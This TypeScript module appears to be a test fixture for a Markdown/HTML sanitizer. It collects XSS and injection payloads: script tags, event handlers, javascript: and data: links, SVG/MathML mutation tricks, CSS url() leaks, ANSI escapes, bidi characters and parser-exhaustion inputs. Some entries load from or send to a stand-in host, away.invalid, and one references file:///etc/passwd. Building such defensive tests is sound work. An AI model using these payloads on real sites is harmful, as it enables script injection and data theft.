/** Texts that try to be more than text: in a page, in its styles, in a terminal, or by their size. */

export interface Payload {
  readonly name: string;
  readonly text: string;
}

/** What a payload does if it gets to run. */
const RUN = "window.__owned=1";
/** Where one would send what it found; nothing listens there, and no request may be made. */
const AWAY = "http://away.invalid/x";

const payload = (name: string, text: string): Payload => ({ name, text });

const SCRIPTS: readonly Payload[] = [
  payload("script", `<script>${RUN}</script>`),
  payload("script in capitals", `<SCRIPT>${RUN}</SCRIPT>`),
  payload("script with a line break", `<script\n>${RUN}</script\n>`),
  payload("script from elsewhere", `<script src="${AWAY}.js"></script>`),
  payload("script that ends ours", `</script><script>${RUN}</script>`),
  payload("script after a comment", `<!--><script>${RUN}</script>-->`),
  payload("script as a module", `<script type="module">${RUN}</script>`),
  payload("script after a text area", `</textarea><script>${RUN}</script>`),
  payload("script after a title", `</title><script>${RUN}</script>`),
  payload("script in a template", `<template><script>${RUN}</script></template>`),
  payload("script in noscript", `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`),
  payload("a nested tag", `<scr<script>ipt>${RUN}</scr</script>ipt>`),
];

const HANDLERS: readonly Payload[] = [
  payload("image with a handler", `<img src=x onerror="${RUN}">`),
  payload("image without quotes", `<img src=x onerror=${RUN}//`),
  payload("svg that loads", `<svg onload="${RUN}">`),
  payload("svg with a slash", `<svg/onload=${RUN}>`),
  payload("body that loads", `<body onload="${RUN}">`),
  payload("details that opens", `<details open ontoggle="${RUN}">`),
  payload("field with focus", `<input autofocus onfocus="${RUN}">`),
  payload("select with focus", `<select autofocus onfocus="${RUN}"></select>`),
  payload("video that fails", `<video><source onerror="${RUN}"></video>`),
  payload("audio that fails", `<audio src=x onerror="${RUN}">`),
  payload("marquee", `<marquee onstart="${RUN}">`),
  payload("an animated style", `<p style="animation:x" onanimationstart="${RUN}">x</p>`),
  payload("a pointer", `<a onpointerrawupdate="${RUN}" onmouseover="${RUN}">x</a>`),
  payload("an attribute that ends ours", `" onmouseover="${RUN}" x="`),
  payload("an attribute in single quotes", `' onfocus='${RUN}' autofocus='`),
  payload("an attribute in backticks", `\`onerror=${RUN} x=\``),
];

const ADDRESSES: readonly Payload[] = [
  payload("a script address in Markdown", `[click](javascript:${RUN})`),
  payload("a script address in capitals", `[click](JaVaScRiPt:${RUN})`),
  payload("a script address with entities", `[click](&#106;avascript:${RUN})`),
  payload("a script address with a tab", `[click](java\tscript:${RUN})`),
  payload("a script address after a control", `[click](\u0001javascript:${RUN})`),
  payload("a script address as an autolink", `<javascript:${RUN}>`),
  payload("a script address by reference", `[click][x]\n\n[x]: javascript:${RUN}`),
  payload("a data address", `[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`),
  payload("a script of Visual Basic", `[click](vbscript:msgbox(1))`),
  payload("an address of a file", `[click](file:///etc/passwd)`),
  payload("an anchor in HTML", `<a href="javascript:${RUN}">click</a>`),
  payload("a form", `<form action="${AWAY}"><button formaction="javascript:${RUN}">x</button></form>`),
  payload("a frame", `<iframe src="javascript:parent.__owned=1"></iframe>`),
  payload("a frame with a document", `<iframe srcdoc="<script>parent.__owned=1</script>"></iframe>`),
  payload("an object", `<object data="javascript:${RUN}"></object><embed src="javascript:${RUN}">`),
  payload("a base", `<base href="${AWAY}/">`),
  payload("a refresh", `<meta http-equiv="refresh" content="0;url=${AWAY}">`),
  payload("a title that breaks out", `[x](http://x.invalid/ "\\" onmouseover=${RUN} \\"")`),
];

const PICTURES: readonly Payload[] = [
  payload("a picture in Markdown", `![pixel](${AWAY}.png)`),
  payload("a picture with a script", `![x](javascript:${RUN})`),
  payload("a picture of SVG data", `![x](data:image/svg+xml,<svg onload=${RUN}>)`),
  payload("a picture in HTML", `<img src="${AWAY}.png">`),
  payload("an SVG script", `<svg><script>${RUN}</script></svg>`),
  payload("an SVG that uses another", `<svg><use href="data:image/svg+xml,<svg id='x'/>#x"/></svg>`),
  payload(
    "an SVG animation",
    `<svg><a><animate attributeName=href values=javascript:${RUN} /><text>x</text></a></svg>`,
  ),
  payload("a foreign object", `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`),
  payload("MathML", `<math><mi xlink:href="javascript:${RUN}">x</mi></math>`),
  payload(
    "markup that changes when parsed again",
    `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  ),
];

const STYLES: readonly Payload[] = [
  payload("a style", `<style>body{display:none!important}</style>`),
  payload(
    "a style from elsewhere",
    `<link rel=stylesheet href="${AWAY}.css"><style>@import "${AWAY}.css"</style>`,
  ),
  payload("an inline style", `<div style="position:fixed;inset:0;background:url(${AWAY})">x</div>`),
  payload("a class of ours", `<div class="sr-only">x</div></div></div></main>`),
  payload("a value for a style", `red;background:url(${AWAY})`),
];

const TERMINALS: readonly Payload[] = [
  payload("ANSI colours", "\u001b[31mred\u001b[0m and \u001b[2Jcleared"),
  payload("ANSI title and link", `\u001b]0;owned\u0007\u001b]8;;${AWAY}\u0007click\u001b]8;;\u0007`),
  payload("controls", "a\u0000b\u0008c\u007fd\u0085e\u009bf"),
  payload("text that runs backwards", "safe \u202etxt.exe\u202c \u2066hidden\u2069 \u200f"),
  payload("characters that cannot be seen", "in\u200bvis\u2060ible\ufeff \u{e0041}\u{e0042}"),
  payload("a broken pair", "half \ud83d of an emoji"),
  payload("stacked marks", `Z${"\u0335\u0321\u0322".repeat(40)}algo`),
];

const SIZES: readonly Payload[] = [
  payload("deep quotes", `${">".repeat(2000)} deep`),
  payload("deep lists", Array.from({ length: 150 }, (_, at) => `${"  ".repeat(at)}- deep`).join("\n")),
  payload("many brackets", "[".repeat(8000)),
  payload("many stars", "*a _b ".repeat(4000)),
  payload("a table of one row", `|${" a |".repeat(800)}\n|${"---|".repeat(800)}\n|${" b |".repeat(800)}`),
  payload("one long word", "w".repeat(60_000)),
  payload("many lines", "line\n".repeat(5000)),
  payload("unclosed code", `\`\`\`html\n<script>${RUN}</script>\n${"x".repeat(2000)}`),
  payload("a language of code", `\`\`\`"><img/src/onerror=${RUN}>\ncode\n\`\`\``),
  payload("a name of the prototype", "__proto__ constructor hasOwnProperty toString"),
  payload(
    "a template of another kind",
    `{{constructor.constructor('window.__owned=1')()}} \${window.__owned=1}`,
  ),
];

export const PAYLOADS: readonly Payload[] = [
  ...SCRIPTS,
  ...HANDLERS,
  ...ADDRESSES,
  ...PICTURES,
  ...STYLES,
  ...TERMINALS,
  ...SIZES,
];
